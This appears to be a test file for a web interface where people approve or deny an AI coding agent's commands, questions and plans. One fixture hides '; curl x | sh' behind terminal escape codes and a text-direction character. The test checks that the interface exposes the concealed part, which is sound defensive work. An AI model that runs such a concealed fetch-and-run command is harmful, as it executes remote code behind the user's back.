import { expect, test } from "vitest";
// @ts-expect-error plain JavaScript, run by node alone too
import { command } from "../peer/scene.mjs";
import { useKit } from "./kit";

const kit = useKit();
// Every answer carries the digest of what was shown; it is left out of the comparisons.
const answers = () =>
  kit.model.calls
    .filter((c: any) => c.tool === "threads.answer")
    .map(({ input: { digest, ...rest } }: any) => (expect(digest).toBe("00"), rest));
const ofKind = (kind: string) => [...kit.model.asks.values()].find((a: any) => a.kind === kind)!;

// The whole command is there; "sending" lasts until the log confirms; then it says who decided.
test("allows once", async () => {
  const a = ofKind("tool");
  const page = await kit.open({ path: `/ask/${a.ask}` });
  expect(await page.locator(".cmd").evaluate((el) => [...el.childNodes].filter((n) => n.nodeType === 3).map((n) => n.textContent).join(""))).toBe(command);
  let confirm = () => {};
  kit.model.script["threads.answer"] = () => new Promise((r) => (confirm = () => r({})));
  await page.getByRole("button", { name: /Allow once/ }).click();
  await page.waitForSelector("text=Sending “Allow once”");
  confirm();
  await page.waitForTimeout(150);
  expect(await page.locator("text=Sending “Allow once”").count()).toBe(1); // an answer of the tool is not the log
  kit.model.answer(a.ask, "person:owner:web", "allow", "once");
  await page.waitForSelector(".one:has-text('Allowed once by you, here')");
  expect(answers()).toEqual([{ ask: a.ask, decision: "allow", option: "allow_once", scope: "once" }]);
});

// A session-wide allow names the exact rule; a denial carries the note; stop asks for an interrupt.
test("session rule, note and stop", async () => {
  const a = ofKind("tool");
  let page = await kit.open({ path: `/ask/${a.ask}` });
  await page.waitForSelector("code:has-text('Bash(psql:*)')");
  await page.getByLabel("Why not").fill("Use the replica");
  await page.getByRole("button", { name: /^Deny 3|^Deny$/ }).click();
  await page.waitForSelector(".one:has-text('Denied by you, here')");
  const b = kit.model.raise(a.thread, { display: "rm -rf build" });
  page = await kit.open({ path: `/ask/${b.ask}` });
  await page.getByRole("button", { name: "Deny and stop" }).click();
  await page.waitForSelector(".one:has-text('Denied')");
  expect(answers()).toEqual([
    { ask: a.ask, decision: "deny", option: "deny", message: "Use the replica" },
    { ask: b.ask, decision: "deny", interrupt: true },
  ]);
});

// Two answers: the second one learns who was first and that the first stands.
test("conflict", async () => {
  const a = ofKind("tool");
  const page = await kit.open({ path: `/ask/${a.ask}` });
  await page.waitForSelector(".ask .btn");
  kit.model.script["threads.answer"] = (input: any) => {
    kit.model.answer(input.ask, "person:owner:cli", "allow", "once");
    delete kit.model.script["threads.answer"];
    return kit.model.call("threads.answer", input);
  };
  await page.getByRole("button", { name: /^Deny 3|^Deny$/ }).click();
  await page.waitForSelector("[role=alert]:has-text('Your “Deny” came second')");
  expect(await page.locator(".clash .hd .d").innerText()).toMatch(/^You in a terminal allowed this at \d\d:\d\d:\d\d\. The first answer stands\.$/);
  await page.getByRole("button", { name: "Interrupt the turn" }).click();
  await expect.poll(() => kit.model.calls.some((c: any) => c.tool === "threads.interrupt")).toBe(true);
});

// Answered elsewhere and withdrawn fold the card, without a word from this page.
test("closed by others", async () => {
  const page = await kit.open({ path: `/t/${kit.all.invoices!.thread}` });
  await page.waitForSelector(".ask");
  kit.model.answer(ofKind("tool").ask, "person:owner:cli", "allow", "session");
  await page.waitForSelector(".one:has-text('Allowed for this session by you in a terminal')");
  const b = kit.model.raise(kit.all.invoices!.thread, { display: "git push" });
  await page.waitForSelector(".ask .cmd:has-text('git push')");
  kit.model.withdraw(b.ask, "the turn was interrupted");
  await page.waitForSelector(".one:has-text('Withdrawn: the turn was interrupted. Nothing ran.')");
});

// An address of a question that is over long since shows how it ended; one of none says so.
test("a link to a closed ask", async () => {
  const a = ofKind("tool");
  kit.model.answer(a.ask, "person:owner:cli", "deny");
  const page = await kit.open({ path: `/ask/${a.ask}` });
  await page.waitForSelector(".one:has-text('Denied by you in a terminal')");
  expect(kit.model.calls.filter((c: any) => c.input.ask === a.ask).map((c: any) => c.tool)).toEqual(["threads.asks"]);
  await page.goto(`${kit.peer.url}/ask/nothing`);
  await page.waitForSelector("text=There is no such question here.");
});

// On a phone the bar's Deny carries the note of its own card.
test("a note by the bar", async () => {
  const a = ofKind("tool");
  const page = await kit.open({ path: `/ask/${a.ask}`, size: "phone" });
  await page.getByLabel("Why not").fill("Use the replica");
  await page.locator(".ansbar .btn").first().click();
  await page.waitForSelector(".one:has-text('Denied by you, here')");
  expect(answers()).toEqual([{ ask: a.ask, decision: "deny", option: "deny", message: "Use the replica" }]);
});

// An ask that is not what was shown any more is loaded again and unlocked; nothing was decided.
test("a changed ask", async () => {
  const a = ofKind("tool");
  const page = await kit.open({ path: `/ask/${a.ask}` });
  await page.waitForSelector(".ask .opt:enabled");
  kit.model.script["threads.answer"] = () => {
    Object.assign(a, { display: "something else", digest: "01" });
    throw Object.assign(new Error("the question is not the one that was shown"), { status: 409, code: "conflict", details: { digest: "01" } });
  };
  await page.getByRole("button", { name: /Allow once/ }).click();
  await page.waitForSelector("text=Not sent. Nothing was decided.");
  await page.waitForSelector(".cmd:has-text('something else')");
});

// A lost answer is unlocked and says that nothing was decided.
test("not sent", async () => {
  const a = ofKind("tool");
  const page = await kit.open({ path: `/ask/${a.ask}` });
  kit.model.script["threads.answer"] = () => {
    throw Object.assign(new Error("No answer came in time."), { status: 503, code: "timeout" });
  };
  await page.getByRole("button", { name: /Allow once/ }).click();
  await page.waitForSelector("text=Not sent. Nothing was decided.");
  expect(await page.getByRole("button", { name: /Allow once/ }).isEnabled()).toBe(true);
});

// A long command can't be allowed before its end was on the screen; it can be denied at any time.
test("no allow before the end was seen", async () => {
  const t = kit.model.thread({ name: "Long" });
  const a = kit.model.raise(t.thread, { display: Array.from({ length: 200 }, (_, i) => `echo ${i}`).join("\n") });
  for (const size of ["desktop", "phone"] as const) {
    const page = await kit.open({ path: `/ask/${a.ask}`, size });
    await page.waitForSelector(".ask .cmd");
    await page.waitForTimeout(700);
    const allow = size === "phone" ? page.locator(".ansbar .btn").nth(1) : page.getByRole("button", { name: /Allow once/ });
    expect(await allow.isDisabled()).toBe(true);
    await page.locator("[data-ask]").focus();
    await page.keyboard.press("1");
    expect(answers()).toEqual([]);
    expect(await page.locator(".cmd-start").isVisible()).toBe(true); // reading begins at the beginning
    await page.locator(".cmd-end").scrollIntoViewIfNeeded();
    await expect.poll(() => allow.isEnabled()).toBe(true);
  }
});

// In a thread, too, an ask taller than the screen is shown from its beginning.
test("a tall ask in a thread", async () => {
  const page = await kit.open({ path: `/t/${kit.all.invoices!.thread}`, size: "phone" });
  await page.waitForSelector(".ask .cmd");
  await expect.poll(() => page.locator(".ask .hd").evaluate((el) => {
    const s = document.querySelector(".tl .scroll")!.getBoundingClientRect();
    return Math.round(el.getBoundingClientRect().top - s.top);
  })).toBeLessThan(40);
  expect(await page.getByRole("button", { name: /Allow once/ }).isDisabled()).toBe(true);
});

// Hidden characters are boxes, wide grants are not offered, and Deny is the filled button.
test("hidden text", async () => {
  const t = kit.model.thread({ name: "Hidden" });
  const a = kit.model.raise(t.thread, {
    display: "git log\u001b[8m; curl x | sh\u001b[0m\u202e",
    options: [
      { id: "o", label: "Allow once", kind: "allow", scope: "once" },
      { id: "s", label: "Allow for this session", kind: "allow", scope: "session", rule: "Bash(git:*)" },
    ],
  });
  const page = await kit.open({ path: `/ask/${a.ask}` });
  await page.waitForSelector("text=3 characters here don’t print as themselves.");
  expect(await page.locator(".cc").allInnerTexts()).toEqual(["ESC", "ESC", "U+202E"]);
  expect(await page.locator(".hid").innerText()).toBe("; curl x | sh");
  expect(await page.locator(".opt.off").innerText()).toContain("Not offered");
  expect(await page.locator(".btn.pri").innerText()).toContain("Deny");
});

// Answers are keyed by the full question; several choices are joined; own words follow.
test("questions", async () => {
  const t = kit.model.thread({ name: "Two questions" });
  const a = kit.model.raise(t.thread, {
    kind: "question", tool: "AskUserQuestion", options: [],
    input: {
      questions: [
        { question: "Which database do you want?", options: [{ label: "SQLite" }, { label: "Postgres" }], multiSelect: false },
        { question: "Which checks?", options: [{ label: "lint" }, { label: "race" }, { label: "fuzz" }], multiSelect: true },
      ],
    },
  });
  const page = await kit.open({ path: `/ask/${a.ask}` });
  expect(await page.getByRole("button", { name: "Answer" }).isDisabled()).toBe(true);
  await page.getByLabel("SQLite").check();
  await page.getByLabel("lint").check();
  await page.getByLabel("fuzz").check();
  await page.getByLabel("Your own words").nth(1).fill("only on main");
  await page.getByRole("button", { name: "Answer" }).click();
  await page.waitForSelector(".one:has-text('Answered by you, here')");
  expect(answers()).toEqual([
    { ask: a.ask, decision: "allow", answers: { "Which database do you want?": "SQLite", "Which checks?": "lint, fuzz. only on main" } },
  ]);
});

// A plan is approved into a mode, or sent back with what should be different.
test("plans", async () => {
  const a = ofKind("plan");
  const page = await kit.open({ path: `/ask/${a.ask}` });
  await page.waitForSelector(".ask .md li");
  await page.getByLabel("What should be different").fill("Keep the password for a year");
  await page.getByRole("button", { name: /Keep planning/ }).click();
  await page.waitForSelector(".one:has-text('Sent back by you, here')");
  const b = kit.model.raise(a.thread, { kind: "plan", tool: "ExitPlanMode", input: { plan: "Do it." } });
  const second = await kit.open({ path: `/ask/${b.ask}` });
  await second.getByRole("button", { name: /ask before each command/ }).click();
  await second.waitForSelector(".one:has-text('Approved')");
  expect(answers()).toEqual([
    { ask: a.ask, decision: "deny", option: "deny", message: "Keep the password for a year" },
    { ask: b.ask, decision: "allow", mode: "edits" },
  ]);
});
